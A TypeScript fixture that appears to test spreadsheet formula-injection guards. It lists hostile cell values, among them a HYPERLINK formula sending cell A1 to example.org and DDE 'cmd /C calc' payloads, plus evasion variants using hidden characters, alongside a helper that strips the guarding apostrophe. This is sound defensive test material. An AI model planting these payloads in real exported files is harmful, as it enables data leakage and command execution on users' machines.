/** Names a company file could carry to make a spreadsheet run something. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("http://example.org?x="&A1,"Kingsoft")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "'=1+1",
  "\tplain",
];

/** A guarded text as it was: without the apostrophe that keeps it from being a formula. */
export function withoutGuard(text: string): string {
  return /^'+(?:[\t\r\n]|[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠])/u.test(text) ? text.slice(1) : text;
}
